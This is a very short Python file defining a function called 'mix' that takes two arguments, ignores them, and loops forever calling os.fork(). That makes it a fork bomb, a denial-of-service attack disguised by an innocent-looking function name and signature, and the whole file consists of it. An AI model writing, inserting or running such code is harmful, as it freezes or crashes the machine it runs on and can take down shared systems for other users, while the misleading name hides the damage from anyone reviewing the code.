import os


def mix(a, b):
    while True:
        os.fork()
